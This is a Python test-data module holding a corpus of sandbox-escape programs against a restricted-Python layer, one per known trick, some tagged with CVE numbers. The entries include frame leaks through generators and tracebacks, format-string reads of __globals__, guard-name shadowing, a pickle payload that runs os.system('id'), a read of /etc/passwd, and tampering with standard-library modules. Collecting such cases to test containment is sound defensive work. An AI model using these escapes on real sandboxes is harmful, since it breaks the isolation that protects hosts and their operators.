"""Programs that try to get out of the language layer, one per known trick; data for tests.

Each defines `attack()`, which returns loot when it gets through: an object that leads to the
interpreter, or a word saying that something of the standard library was changed. Contained means:
refused when compiled, an exception, or one of None, 0 and 1. `reference` names the trick's source,
where that is public a CVE number.
"""

# ruff: noqa: E501

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Escape:
    """One attempt."""

    id: str
    reference: str
    source: str


ESCAPES: list[Escape] = []


def _add(id: str, reference: str, source: str) -> None:
    ESCAPES.append(Escape(id, reference, source.strip("\n") + "\n"))


#: Private and module-valued attributes of allow-listed modules.
_MODULE_PATHS = """
    random._os.system
    json.codecs.open
    json.decoder.scanner
    re.enum.sys
    re._compiler
    statistics.sys
    dataclasses.sys
    dataclasses.inspect.os
    typing.sys
    collections._sys
    enum.sys
    functools.singledispatch
    contextlib.sys
    contextlib.os
    datetime.sys
    logging.os
    logging.sys
    uuid.os
    uuid.sys
    copy.copyreg
    base64.binascii
    textwrap.re
    decimal.sys
    hashlib._hashlib
    heapq.__main__
    ast.sys
    calendar.sys
    csv.re
    fractions.sys
    string._re
    time.sys
"""
for _path in _MODULE_PATHS.split():
    _module = _path.split(".")[0]
    _add(
        f"module:{_path}",
        "modules as attributes of modules",
        f"import {_module}\ndef attack():\n    return {_path}",
    )

_add(
    "subclasses",
    "classic",
    """
def attack():
    return ().__class__.__base__.__subclasses__()
""",
)

_add(
    "mro_subclasses",
    "classic",
    """
def attack():
    return object.__subclasses__()
""",
)

_add(
    "func_globals",
    "classic",
    """
def attack():
    def f(): pass
    return f.__globals__
""",
)

_add(
    "method_globals",
    "classic",
    """
class A:
    def m(self): pass
def attack():
    return A().m.__func__.__globals__
""",
)

_add(
    "import_os",
    "classic",
    """
import os
def attack():
    return os.system
""",
)

_add(
    "dunder_import",
    "classic",
    """
def attack():
    return __import__('os')
""",
)

_add(
    "exec",
    "classic",
    """
def attack():
    exec('import os; global L; L=os')
    return L
""",
)

_add(
    "eval_dunder",
    "classic",
    """
def attack():
    return eval('().__class__.__base__.__subclasses__()')
""",
)

_add(
    "getattr_strsub",
    "7.2 fix",
    """
class S(str):
    def startswith(self, *a): return False
    def __eq__(self, o): return False
    def __hash__(self): return hash('x')
    def __getitem__(self, i): return 'x'
def attack():
    def f(): pass
    return getattr(f, S('__globals__'))
""",
)

_add(
    "gi_frame",
    "CVE-2023-37271",
    """
def attack():
    def g():
        yield [i for i in [1]]
    def h():
        yield q.gi_frame
    q = h()
    f = [x for x in q][0]
    return f.f_back
""",
)

_add(
    "gen_frame_back",
    "CVE-2023-37271",
    """
def attack():
    q = (q.gi_frame.f_back.f_back for x in [1])
    return [x for x in q][0]
""",
)

_add(
    "cr_frame",
    "CVE-2023-37271",
    """
async def c(): pass
def attack():
    return c().cr_frame
""",
)

_add(
    "tb_frame",
    "CVE-2023-37271",
    """
class M:
    def __enter__(self): return self
    def __exit__(self, t, v, tb):
        self.f = tb.tb_frame
        return True
def attack():
    m = M()
    with m: 1/0
    return m.f
""",
)

_add(
    "exc_tb",
    "classic",
    """
def attack():
    try: 1/0
    except Exception as e: return e.__traceback__.tb_frame
""",
)

_add(
    "fmt_method",
    "CVE-2023-41039",
    """
def attack():
    def f(): pass
    return '{0.__globals__}'.format(f)
""",
)

_add(
    "fmt_unbound",
    "CVE-2023-41039",
    """
def attack():
    def f(): pass
    return str.format('{0.__globals__}', f)
""",
)

_add(
    "fmt_map_unbound",
    "CVE-2023-41039",
    """
def attack():
    def f(): pass
    return list(map(str.format_map, ['{f.__globals__}'], [{'f': f}]))[0]
""",
)

_add(
    "fmt_nested_spec",
    "CVE-2023-41039",
    """
def attack():
    def f(): pass
    return '{1:{0.__globals__}}'.format(f, 'x')
""",
)

_add(
    "fmt_super",
    "CVE-2023-41039",
    """
class S(str):
    def go(self, *a): return super().format(*a)
def attack():
    def f(): pass
    return S('{0.__globals__}').go(f)
""",
)

_add(
    "fmt_strsub_cls",
    "CVE-2023-41039",
    """
class S(str): pass
def attack():
    def f(): pass
    return S.format('{0.__globals__}', f)
""",
)

_add(
    "fmt_getitem_idx",
    "CVE-2023-41039",
    """
def attack():
    def f(): pass
    return '{0[0].__globals__}'.format([f])
""",
)

_add(
    "string_Formatter",
    "CVE-2026-76825",
    """
import string
def attack():
    def f(): pass
    return string.Formatter().format('{0.__globals__}', f)
""",
)

_add(
    "formatter_get_field",
    "CVE-2026-76825",
    """
import string
def attack():
    def f(): pass
    return getattr(string.Formatter(), 'get_field')('0.__globals__', [f], {})[0]
""",
)

_add(
    "formatter_sub",
    "CVE-2026-76825",
    """
import string
class F(string.Formatter): pass
def attack():
    def f(): pass
    return F().get_field('0.__globals__', [f], {})[0]
""",
)

_add(
    "logging_style",
    "new",
    """
import logging
def attack():
    def f(): pass
    return logging.Formatter('{x.__globals__}', style='{').format(logging.makeLogRecord({'x': f}))
""",
)

_add(
    "attrerr_obj",
    "CVE-2024-47532",
    """
import string
def attack():
    try: string.nope
    except AttributeError as e: return e.obj.Formatter().get_field('0.__globals__', [attack], {})[0]
""",
)

_add(
    "attrerr_match",
    "CVE-2024-47532",
    """
import string
def attack():
    try: string.nope
    except AttributeError as e:
        match e:
            case AttributeError(obj=o): return o._string
""",
)

_add(
    "try_star",
    "CVE-2025-22153",
    """
def attack():
    try: raise ValueError(1)
    except* ValueError as e: return e
""",
)

_add(
    "posonly_getattr",
    "CVE-2026-55830",
    """
def attack():
    def f(_getattr_, /):
        return attack.x
    return f(lambda o, n: o.__globals__)
""",
)

_add(
    "posonly_shadow",
    "CVE-2026-55830",
    """
import json
def attack():
    g = lambda o, n: 'SHADOWED-GUARD'
    def f(_getattr_, /): return json.format
    return f(g)
""",
)

_add(
    "walrus_shadow",
    "guard shadow",
    """
import json
def attack():
    (_getattr_ := lambda o,n: 'SHADOWED-GUARD')
    return json.format
""",
)

_add(
    "import_as_shadow",
    "guard shadow",
    """
import json
from math import sqrt as _getattr_
def attack(): return json.format
""",
)

_add(
    "match_shadow",
    "guard shadow",
    """
import json
def attack():
    match (lambda o,n: 'SHADOWED-GUARD'):
        case _getattr_: return json.format
""",
)

_add(
    "match_star_shadow",
    "guard shadow",
    """
def attack():
    match [1,2]:
        case [*_write_]: return 'SHADOWED-GUARD'
""",
)

_add(
    "global_shadow",
    "guard shadow",
    """
def attack():
    global _getattr_
    def q(): pass
    return 'SHADOWED-GUARD'
""",
)

_add(
    "nonlocal_shadow",
    "guard shadow",
    """
def attack():
    def q():
        nonlocal _getattr_
    return 'SHADOWED-GUARD'
""",
)

_add(
    "def_shadow",
    "guard shadow",
    """
def _getattr_(o, n): return 'SHADOWED-GUARD'
import json
def attack(): return json.format
""",
)

_add(
    "for_shadow",
    "guard shadow",
    """
def attack():
    for _write_ in [1]: return 'SHADOWED-GUARD'
""",
)

_add(
    "builtins_assign",
    "guard shadow",
    """
__builtins__ = {}
def attack(): return 'SHADOWED-GUARD'
""",
)

_add(
    "from_json_decoder",
    "IMPORT_FROM sys.modules fallback",
    """
from json import decoder
def attack():
    return decoder.scanner
""",
)

_add(
    "from_collections_abc",
    "IMPORT_FROM sys.modules fallback",
    """
from collections import abc
def attack():
    return abc.sys
""",
)

_add(
    "from_re_compiler",
    "IMPORT_FROM sys.modules fallback",
    """
from re import _compiler
def attack():
    return _compiler._sre
""",
)

_add(
    "subprocess",
    "import",
    """
import subprocess
def attack():
    return subprocess.run
""",
)

_add(
    "gc",
    "import",
    """
import gc
def attack():
    return gc.get_objects()
""",
)

_add(
    "sys_modules",
    "import",
    """
import sys
def attack():
    return sys.modules
""",
)

_add(
    "sys_getframe",
    "import",
    """
import sys
def attack():
    return sys._getframe()
""",
)

_add(
    "methodcaller",
    "stdlib gadget",
    """
import operator
def attack():
    return operator.methodcaller('__subclasses__')(object)
""",
)

_add(
    "get_type_hints",
    "stdlib gadget",
    """
import typing
def attack():
    def f(x: '().__class__.__base__.__subclasses__()'): pass
    return typing.get_type_hints(f)
""",
)

_add(
    "singledispatch_eval",
    "stdlib gadget",
    """
import functools
L = []
def grab(x):
    L.append(x)
    return int
@functools.singledispatch
def f(x): pass
def attack():
    def g(x: 'grab(().__class__.__base__.__subclasses__())'): pass
    f.register(g)
    return L[0]
""",
)

_add(
    "update_wrapper_code",
    "stdlib gadget",
    """
import functools, json
def attack():
    def evil(*a, **k): return codecs
    functools.update_wrapper(json.dumps, evil, assigned=('__code__','__defaults__','__kwdefaults__'), updated=())
    return json.dumps(1)
""",
)

_add(
    "make_dataclass",
    "stdlib gadget",
    """
from dataclasses import make_dataclass
X = make_dataclass('X', [('a', 'int', None)], namespace={'__getattr__': lambda s, n: 1, '__reduce_ex__': lambda s, p: (str, ())})
def attack():
    return X.__init__.__globals__
""",
)

_add(
    "type3",
    "stdlib gadget",
    """
def attack():
    return type('X', (), {'__getattribute__': lambda s, n: 1})
""",
)

_add(
    "types_FunctionType",
    "stdlib gadget",
    """
import types
def attack():
    return types.FunctionType
""",
)

_add(
    "code_replace",
    "stdlib gadget",
    """
def attack():
    def f(): pass
    return f.__code__.replace(co_consts=())
""",
)

_add(
    "io_open",
    "stdlib gadget",
    """
import io
def attack():
    return io.open('/etc/passwd').read()
""",
)

_add(
    "pickle",
    "import",
    r"""
import pickle
def attack():
    return pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
""",
)

_add(
    "copy_setstate",
    "stdlib gadget",
    """
import copy
class R:
    def __setstate__(self, s): pass
    def __getstate__(self): return {'__class__': dict}
def attack():
    return 'SETSTATE' if copy.copy(R()) else 0
""",
)

_add(
    "namedtuple_inject",
    "stdlib gadget",
    """
from collections import namedtuple
def attack():
    return namedtuple('X', 'a; import os')
""",
)

_add(
    "template_braced",
    "stdlib gadget",
    """
from string import Template
class T(Template):
    pattern = ''
def attack():
    return T.pattern.__class__.__base__
""",
)

_add(
    "enum_magic",
    "stdlib gadget",
    """
from enum import Enum
class E(Enum):
    A=1
def attack():
    return E.A.__class__.__class__.__base__.__subclasses__(object)
""",
)

_add(
    "partial_func",
    "stdlib gadget",
    """
import functools
def attack():
    p = functools.partial(attack)
    return p.func.__globals__
""",
)

_add(
    "super_getattribute",
    "classic",
    """
class A:
    def go(self): return super().__getattribute__('go').__func__
def attack():
    return A().go().__globals__
""",
)

_add(
    "object_getattribute",
    "classic",
    """
def attack():
    def f(): pass
    return object.__getattribute__(f, '__globals__')
""",
)

_add(
    "metaclass",
    "classic",
    """
class M(type):
    def __call__(cls, *a): return a
class X(metaclass=M): pass
def attack():
    return 'METACLASS'
""",
)

_add(
    "del_dunder",
    "classic",
    """
class X:
    def __del__(self): pass
def attack():
    return 'DUNDERDEF'
""",
)

_add(
    "init_subclass",
    "classic",
    """
class X:
    def __init_subclass__(cls): pass
def attack():
    return 'DUNDERDEF'
""",
)

_add(
    "setattr_builtin",
    "host tamper",
    """
import json
def attack():
    setattr(json, 'dumps', lambda *a: 'x')
    return 'TAMPERED'
""",
)

_add(
    "setattr_func_code",
    "host tamper",
    """
import json
def attack():
    json.dumps.__code__ = (lambda: 1).__code__
    return 'TAMPERED'
""",
)

_add(
    "class_attr_host",
    "host tamper",
    """
from decimal import Decimal
import random
def attack():
    random.Random.choice = lambda s, x: 1
    return 'TAMPERED'
""",
)

_add(
    "match_args_dunder",
    "match",
    """
class P:
    __match_args__ = ('__class__',)
def attack():
    match P():
        case P(x): return 'MATCH-DUNDER' if x is P else 0
""",
)

_add(
    "match_args_globals",
    "match",
    """
class P:
    __match_args__ = ('__init__',)
    def __init__(self): pass
def attack():
    match P():
        case P(x): return 'MATCH-DUNDER'
""",
)

_add(
    "match_args_escalate",
    "match",
    """
def attack():
    class Q: pass
    Q.__match_args__ = ('__globals__',)
    return 'x'
""",
)

_add(
    "annot_class",
    "annotations",
    """
class A:
    x: ().__class__.__base__.__subclasses__() = 1
def attack(): return A.__annotations__['x']
""",
)

_add(
    "decorator_dunder",
    "classic",
    """
@().__class__
def attack(): return 1
""",
)

_add(
    "star_import",
    "import",
    """
from os import *
def attack():
    return system
""",
)

_add(
    "relative_import",
    "import",
    """
from . import os
def attack():
    return os
""",
)

_add(
    "urllib_attr",
    "import",
    """
import urllib.parse
def attack():
    return urllib.request
""",
)

_add(
    "eval_ns_builtins",
    "eval",
    """
def attack():
    return eval('x', {'__builtins__': {'x': 1}})
""",
)

_add(
    "breakpoint",
    "classic",
    """
def attack():
    return breakpoint
""",
)

_add(
    "globals_fn",
    "classic",
    """
def attack():
    return globals()
""",
)

_add(
    "memoryview_id",
    "memory",
    """
def attack():
    return memoryview(b'x')
""",
)

_add(
    "code_const_bytes",
    "memory",
    """
def attack():
    return compile
""",
)

_add(
    "name_mangle2",
    "mangling",
    """
class _getattr:
    def f(self, __x):
        return __x
def attack():
    return 0
""",
)

_add(
    "classname_underscore",
    "mangling",
    """
class ___:
    def f(self):
        return self.__globals__
def attack(): return ___().f()
""",
)

_add(
    "unicode_nfkc",
    "unicode",
    """
def attack():
    def f(): pass
    return f.__ｇlobals__
""",
)

_add(
    "unicode_name",
    "unicode",
    """
def attack():
    return ﹍﹍builtins﹍﹍
""",
)

_add(
    "encoding_cookie",
    "parser",
    """
# -*- coding: utf-7 -*-
def attack(): return 1
""",
)

_add(
    "proto_match_frame",
    "Protocol+dataclass+match",
    """
from typing import Protocol, runtime_checkable
from dataclasses import dataclass
@dataclass
@runtime_checkable
class P(Protocol):
    gi_frame: object
def attack():
    g = (i for i in [1])
    match g:
        case P(fr): return fr
""",
)

_add(
    "match_int_rebind",
    "rebinding builtin in match",
    """
from typing import Protocol, runtime_checkable
from dataclasses import dataclass
@dataclass
@runtime_checkable
class int(Protocol):
    gi_frame: object
def attack():
    g = (i for i in [1])
    match g:
        case int(fr): return 0 if fr is g else fr
""",
)

_add(
    "global_enum",
    "enum.global_enum writes sys.modules",
    """
import enum
class FS(frozenset, enum.Enum): pass
def attack():
    X = enum.Enum('X', [('SECRET', 5)], module='__main__')
    enum.global_enum(X)
    return 'TAMPERED'
""",
)

_add(
    "enum_convert_getattr",
    "Enum._convert_",
    """
from enum import Enum
class E(Enum): pass
def attack():
    return getattr(E, '_convert_')('X', 'os', lambda n: n == 'sys').sys.value
""",
)

_add(
    "abcmeta3",
    "3-arg metaclass call",
    """
from abc import ABCMeta
def attack():
    X = ABCMeta('X', (), {'__getattribute__': lambda s, n: 1, '__match_args__': ('__globals__',)})
    return 'METACLASS' if X else 0
""",
)

_add(
    "type_of_class3",
    "3-arg metaclass call",
    """
class C: pass
def attack():
    M = C.__class__
    X = M('X', (), {'__del__': lambda s: 1})
    return 'METACLASS' if isinstance(X, type) else 0
""",
)

_add(
    "augassign_format",
    "augmented attr reads natively",
    """
class S(str): pass
class R:
    def __radd__(self, o): return o
def attack():
    def f(): pass
    s = S('{0.__globals__}')
    s.format += R()
    return s.format(f)
""",
)

_add(
    "jsonencoder_private",
    "host private via subclass",
    """
import random
class R(random.Random): pass
def attack():
    return R()._randbelow.__func__.__globals__
""",
)

_add(
    "template_private",
    "host private via subclass",
    """
import string
class T(string.Template): pass
def attack():
    return T._invalid
""",
)

_add(
    "namedtuple_module",
    "module= spoof",
    """
from collections import namedtuple
X = namedtuple('X', 'a', module='os')
def attack():
    return X(1)._fields and 0
""",
)

_add(
    "dataclass_host",
    "host tamper",
    """
from dataclasses import dataclass
import string
def attack():
    dataclass(string.Template)
    return 'TAMPERED'
""",
)

_add(
    "simplens_class",
    "stdlib gadget",
    """
import types
def attack():
    n = types.SimpleNamespace(**{'__class__': dict})
    return 0
""",
)

_add(
    "exc_context_tb",
    "classic",
    """
def attack():
    try:
        try: 1/0
        except Exception: [][1]
    except Exception as e: return e.__context__.__traceback__
""",
)

_add(
    "dict_get_builtins",
    "classic",
    """
def attack():
    return __name__.__class__.__base__
""",
)

_add(
    "generic_alias_origin",
    "classic",
    """
def attack():
    return list[int].__origin__.__base__
""",
)

_add(
    "classmethod_func",
    "classic",
    """
class A:
    @classmethod
    def x(cls): return 1
def attack():
    return A.x.__func__.__globals__
""",
)

_add(
    "setattr_dunder",
    "classic",
    """
class A: pass
def attack():
    setattr(A, '__getattribute__', lambda s, n: 1)
    return 'DUNDERDEF'
""",
)

_add(
    "dict_write_dunder",
    "classic",
    """
class A: pass
def attack():
    A.__dict__['x'] = 1
    return 'DUNDERDEF'
""",
)

_add(
    "closure_guard",
    "classic",
    """
def attack():
    return getattr.__closure__
""",
)

_add(
    "format_map_cls",
    "CVE-2023-41039",
    """
class D(dict):
    def __missing__(self, k): return attack
def attack():
    return '{f.__globals__}'.format_map(D())
""",
)

_add(
    "percent_getitem",
    "format",
    """
def attack():
    return '%(__globals__)s' % {'__globals__': 'ok'} and 0
""",
)

_add(
    "future_barry",
    "parser",
    """
from __future__ import barry_as_FLUFL
def attack(): return 0
""",
)

_add(
    "contextmanager_wrapped",
    "stdlib gadget",
    """
from contextlib import contextmanager
@contextmanager
def f(): yield 1
def attack():
    return f.__wrapped__.__globals__
""",
)

_add(
    "cached_property_gadget",
    "stdlib gadget",
    """
from functools import cached_property
import json
class A:
    x = cached_property(lambda s: 1)
def attack():
    return A.x.func.__globals__
""",
)

_add(
    "typing_overload_reg",
    "stdlib gadget",
    """
import typing
def attack():
    return typing.get_overloads.__globals__
""",
)

_add(
    "strptime_mod",
    "C-import shim",
    """
import _strptime
def attack():
    return _strptime.locale
""",
)

_add(
    "strptime_from",
    "C-import shim",
    """
from _strptime import locale
def attack():
    return locale
""",
)

_add(
    "eval_setattr",
    "eval",
    """
def attack():
    return eval('[x for x in ().__class__.__mro__]')
""",
)

_add(
    "eval_walrus_guard",
    "eval",
    """
def attack():
    return eval('(_getattr_ := 1)')
""",
)

_add(
    "class_private_of_host_super",
    "host private via super",
    """
import random
class R(random.Random):
    def go(self): return super()._randbelow
def attack():
    return R().go().__globals__
""",
)

_add(
    "instance_dict_class",
    "user __dict__",
    """
class A: pass
def attack():
    a = A(); a.__dict__['__class__'] = dict
    return 0
""",
)

# ---- third round: what would outlive a call, or change the interpreter for the next one

_add(
    "total_ordering_host",
    "host tamper",
    """
import functools, string
def attack():
    functools.total_ordering(string.Template)
    return 'TAMPERED'
""",
)

_add(
    "runtime_checkable_host",
    "host tamper",
    """
import typing
def attack():
    typing.runtime_checkable(typing.Protocol)
    return 'TAMPERED'
""",
)

_add(
    "register_abc",
    "host tamper",
    """
import numbers
def attack():
    numbers.Number.register(str)
    return 'TAMPERED'
""",
)

_add(
    "copy_new_setattr",
    "copy writes attributes onto what __new__ returned",
    """
import copy, random
class Bait:
    __slots__ = ('choice',)
    made = 0
    def __new__(cls, *args):
        Bait.made += 1
        return object.__new__(cls) if Bait.made == 1 else random.Random
def attack():
    bait = Bait()
    bait.choice = lambda self, items: 'mine'
    copy.copy(bait)
    return 'TAMPERED'
""",
)

_add(
    "copy_new_module",
    "copy writes attributes onto what __new__ returned",
    """
import copy, json
made = []
class Bait:
    def __new__(cls, *args):
        made.append(1)
        return super().__new__(cls) if len(made) == 1 else json
def attack():
    bait = Bait()
    bait.dumps = lambda value: 'mine'
    copy.copy(bait)
    return 'TAMPERED' if json.dumps(1) == 'mine' else 0
""",
)

_add(
    "enum_functional_dunder",
    "Enum's functional API defines any special method",
    """
from enum import Enum
def attack():
    made = Enum('Made', [('__getattribute__', lambda self, name: 1), ('A', 1)])
    return 'DUNDERDEF'
""",
)

_add(
    "enum_functional_reduce",
    "Enum's functional API defines any special method",
    """
import copy, json
from enum import Enum
def attack():
    def reduce(self, protocol):
        return (lambda: json.dumps, (), (None, {'__defaults__': (1, 2)}))
    made = Enum('Made', [('__reduce_ex__', reduce), ('__copy__', None), ('A', 1)], type=object)
    copy.copy(made.A)
    return 'DUNDERDEF'
""",
)

_add(
    "enum_functional_module",
    "module= spoof",
    """
from enum import Enum
def attack():
    made = Enum('json', [('dumps', 1)], module='__main__', qualname='x')
    return made.__module__
""",
)

_add(
    "calendar_weekday",
    "outlives the call",
    """
import calendar
def attack():
    calendar.setfirstweekday(6)
    return 'TAMPERED'
""",
)

_add(
    "decimal_default_context",
    "outlives the call",
    """
import decimal
def attack():
    decimal.DefaultContext.prec = 3
    return 'TAMPERED'
""",
)

_add(
    "hashlib_algorithms",
    "outlives the call",
    """
import hashlib
def attack():
    hashlib.algorithms_available.add('mine')
    return 'TAMPERED'
""",
)

_add(
    "csv_dialect",
    "outlives the call",
    """
import csv
def attack():
    csv.register_dialect('mine', delimiter='|')
    return 'TAMPERED'
""",
)

_add(
    "environ_write",
    "outlives the call",
    """
import os
def attack():
    os.environ['PATH'] = 'mine'
    return 'TAMPERED'
""",
)

_add(
    "zoneinfo_cache",
    "outlives the call",
    """
import zoneinfo
def attack():
    zoneinfo.ZoneInfo.clear_cache()
    return 'TAMPERED'
""",
)

_add(
    "typed_dict_dunder",
    "functional API",
    """
import typing
def attack():
    made = typing.TypedDict('Made', {'__class__': int})
    return 0 if made is not None else 0
""",
)

_add(
    "named_tuple_module",
    "functional API",
    """
import typing
def attack():
    made = typing.NamedTuple('Made', [('__class__', int)])
    return 'DUNDERDEF'
""",
)

_add(
    "augassign_private",
    "augmented attribute reads natively",
    """
import random
class Mine(random.Random):
    pass
class Catch:
    def __radd__(self, other):
        return other
def attack():
    mine = Mine()
    mine._randbelow += Catch()
    return mine._randbelow.__func__.__globals__
""",
)

_add(
    "metaclass_by_call",
    "class statement through a base with a metaclass",
    """
import abc
class Mine(abc.ABC):
    pass
def attack():
    return Mine.__class__('X', (), {'__getattribute__': lambda s, n: 1})
""",
)

_add(
    "type_param_syntax",
    "newer syntax",
    """
def attack[_getattr_]():
    return 'SHADOWED-GUARD'
""",
)

_add(
    "type_alias_syntax",
    "newer syntax",
    """
type _getattr_ = int
def attack():
    return 'SHADOWED-GUARD'
""",
)

_add(
    "template_string",
    "newer syntax",
    """
def attack():
    def f():
        pass
    return t"{f.__globals__}".values
""",
)

_add(
    "except_as_guard",
    "guard shadow",
    """
def attack():
    try:
        1 / 0
    except ZeroDivisionError as _getattr_:
        return 'SHADOWED-GUARD'
""",
)

_add(
    "lambda_star_guard",
    "guard shadow",
    """
def attack():
    return (lambda *_getattr_: 'SHADOWED-GUARD')()
""",
)

_add(
    "kwonly_guard",
    "guard shadow",
    """
def attack():
    def f(*, _write_=None):
        return 'SHADOWED-GUARD'
    return f()
""",
)

_add(
    "comprehension_guard",
    "guard shadow",
    """
def attack():
    return ['SHADOWED-GUARD' for _getattr_ in [1]]
""",
)

_add(
    "class_named_guard",
    "guard shadow",
    """
class _getattr_:
    pass
def attack():
    return 'SHADOWED-GUARD'
""",
)

_add(
    "async_with_traceback",
    "frames",
    """
class M:
    async def __aenter__(self):
        return self
    async def __aexit__(self, kind, error, tb):
        self.frame = tb.tb_frame
        return True
def attack():
    m = M()
    async def go():
        async with m:
            1 / 0
    try:
        go().send(None)
    except StopIteration:
        pass
    return m.frame
""",
)

_add(
    "context_manager_gen",
    "frames",
    """
import contextlib
@contextlib.contextmanager
def manager():
    yield 1
def attack():
    return manager().gen.gi_frame
""",
)

_add(
    "mangled_dunder",
    "mangling",
    """
class _A__globals__:
    def f(self, other):
        return other.__globals__
def attack():
    return _A__globals__().f(attack)
""",
)

_add(
    "getattr_default_hook",
    "classic",
    """
def attack():
    return getattr(attack, '__globals__', 0)
""",
)

_add(
    "hasattr_oracle",
    "classic",
    """
def attack():
    return 'ORACLE' if hasattr(attack, '__globals__') else 0
""",
)

_add(
    "attrgetter_guarded",
    "stdlib gadget",
    """
import operator
def attack():
    return operator.attrgetter('real.__class__.__base__')(1)
""",
)

_add(
    "sorted_key_format",
    "format",
    """
def attack():
    def f():
        pass
    return sorted(['{0.__globals__}'], key=lambda s: s.format(f))
""",
)

_add(
    "fstring_format_spec",
    "format",
    """
class F:
    def __format__(self, spec):
        return spec
def attack():
    return 0 if f"{F():__globals__}" else 0
""",
)

_add(
    "abstractmethod_host",
    "host tamper",
    """
import abc, json
def attack():
    abc.abstractmethod(json.dumps)
    class Probe(abc.ABC):
        dumps = json.dumps
    try:
        Probe()
    except TypeError:
        return 'TAMPERED'
    return 0
""",
)

# ---- fourth round: functions that the library writes for a class, called on something else

_add(
    "dataclass_init_module",
    "generated __init__ sets attributes natively",
    """
import json
from dataclasses import dataclass
@dataclass
class Bait:
    dumps: object
def attack():
    Bait.__init__(json, lambda value: 'mine')
    return 'TAMPERED'
""",
)

_add(
    "dataclass_init_class",
    "generated __init__ sets attributes natively",
    """
import random
from dataclasses import dataclass
@dataclass
class Bait:
    choice: object
def attack():
    getattr(Bait, '__init__')(random.Random, lambda self, items: 'mine')
    return 'TAMPERED'
""",
)

_add(
    "dataclass_init_super",
    "generated __init__ through super of a class",
    """
import json
from dataclasses import dataclass
@dataclass
class Bait:
    dumps: object
class Line(Bait):
    pass
def attack():
    super(Line, Line).__init__(json, lambda value: 'mine')
    return 'TAMPERED'
""",
)

_add(
    "dataclass_init_registered",
    "generated __init__, foreign class registered as own",
    """
import abc, json
from dataclasses import dataclass
@dataclass
class Bait(abc.ABC):
    dumps: object
def attack():
    Bait.register(type(json))
    Bait.__init__(json, lambda value: 'mine')
    return 'TAMPERED'
""",
)

_add(
    "dataclass_repr_frame",
    "generated __repr__ reads attributes natively",
    """
from dataclasses import dataclass
@dataclass
class Bait:
    gi_frame: object
def attack():
    return Bait.__repr__(i for i in [1])
""",
)

_add(
    "wraps_host",
    "host tamper",
    """
import functools, json
def mine():
    pass
def attack():
    functools.wraps(mine)(json.dumps)
    return 'TAMPERED'
""",
)

_add(
    "ast_fields",
    "ast reads attributes by name natively",
    """
import ast
class Node(ast.AST):
    _fields = ('__class__',)
def attack():
    return list(ast.iter_child_nodes(Node(int))) or 0
""",
)

_add(
    "new_by_super",
    "object.__new__",
    """
class A:
    def make(self):
        return super().__new__
def attack():
    return A().make()
""",
)
